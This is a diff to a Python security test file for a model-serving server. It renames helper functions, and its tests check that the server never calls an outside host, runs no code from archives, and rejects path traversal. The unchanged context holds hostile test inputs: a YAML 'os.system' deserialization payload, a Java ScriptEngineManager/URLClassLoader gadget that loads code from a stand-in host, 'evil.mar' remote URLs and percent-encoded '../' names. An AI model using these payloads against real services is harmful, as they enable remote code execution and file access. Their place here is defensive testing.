@@ -34,7 +34,7 @@ LISTENS = "0A"  #: the state in /proc/net/tcp
 
 
 @contextmanager
-def stranger() -> Iterator[tuple[str, list[Any]]]:
+def listen_as_stranger() -> Iterator[tuple[str, list[Any]]]:
     """A host that the server must never call: its address, and who connected to it."""
     called: list[Any] = []
 
@@ -63,7 +63,7 @@ def ask_raw(address: str, head: str) -> int:
             return int(reply.readline().split()[1])
 
 
-def statuses(server: Server, name: str) -> set[int]:
+def ask_verbs(server: Server, name: str) -> set[int]:
     """What the management verbs answer to a name in their path. That the header of an invocation has it is 400 always:
     SageMaker's ValidationError is for names that cannot be, and for models that are not there.
     """
@@ -78,14 +78,14 @@ def test_no_request_makes_the_server_call_another_host(s3: S3Server, tmp_path: P
     There is no registration, and a name that looks like a URL is a key of the one store.
     """
     (tmp_path / "models").mkdir()
-    with stranger() as (host, called), serving(s3, tmp_path, str(tmp_path / "models")) as server:
+    with listen_as_stranger() as (host, called), serving(s3, tmp_path, str(tmp_path / "models")) as server:
         for path in ("models", "workflows"):
             for address in (server.addresses["management"], server.url):
                 url = f"{path}?url=http://{host}/evil.mar&initial_workers=1"
                 assert ask_raw(address, f"POST /{url} HTTP/1.1") in (404, 405)
         for scheme in ("http", "https", "s3", "file", "ftp"):
-            assert statuses(server, f"{scheme}://{host}/evil.mar") == {400}
-            assert statuses(server, f"{scheme}:{host}/evil.mar") == {404}
+            assert ask_verbs(server, f"{scheme}://{host}/evil.mar") == {400}
+            assert ask_verbs(server, f"{scheme}:{host}/evil.mar") == {404}
         assert called == []
         assert server.resident() == set()
 
@@ -104,7 +104,7 @@ def test_no_archive_runs_code_when_it_is_read(s3: S3Server, tmp_path: Path) -> N
 
     spec = {**json.loads(read_member(SOUND.data, "fleetcast.json")), "weights": {"file": "weights.safetensors"}}
     python = f'!!python/object/apply:os.system ["touch {ran}"]'.encode()
-    with stranger() as (host, called):
+    with listen_as_stranger() as (host, called):
         java = f'!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://{host}/"]]]]'
         archives = {
             "workflow.war": make_zip({
@@ -158,10 +158,10 @@ def test_dots_lead_to_no_other_archive_at_the_first_request_nor_the_second(s3: S
     with serving(s3, tmp_path, str(models)) as server:
         for _ in range(2):
             for name in plain:
-                assert statuses(server, name) == {400}, name
+                assert ask_verbs(server, name) == {400}, name
             for name in ("%2e%2e/outside.mar", "%2e%2e%2foutside.mar", "au/%2E%2E/%2e./outside.mar"):
-                assert statuses(server, name) == {400}, name
-            assert statuses(server, "outside.mar") == {404}
+                assert ask_verbs(server, name) == {400}, name
+            assert ask_verbs(server, "outside.mar") == {404}
         assert server.resident() == set()
         assert not any(row["pinned"] for row in server.models().values())
 
@@ -173,12 +173,12 @@ def test_by_default_nothing_listens_beyond_loopback(s3: S3Server, tmp_path: Path
     """
     (tmp_path / "models").mkdir()
     with serving(s3, tmp_path, str(tmp_path / "models"), workers=2, fronts=2) as server:
-        found = {place for pid in server.survivors() for place in listening(pid)}
+        found = {place for pid in server.survivors() for place in list_listeners(pid)}
         assert found == {tuple(url.removeprefix("http://").rsplit(":", 1)) for url in server.addresses.values()}
         assert {host for host, _ in found} == {"127.0.0.1"}
 
 
-def listening(pid: int) -> Iterator[tuple[str, str]]:
+def list_listeners(pid: int) -> Iterator[tuple[str, str]]:
     """Address and port of every listening TCP socket, IPv4 or IPv6, that the process holds."""
     links = (str(link.readlink()) for link in Path(f"/proc/{pid}/fd").iterdir() if link.is_symlink())
     held = {found[1] for link in links if (found := re.fullmatch(r"socket:\[(\d+)\]", link))}
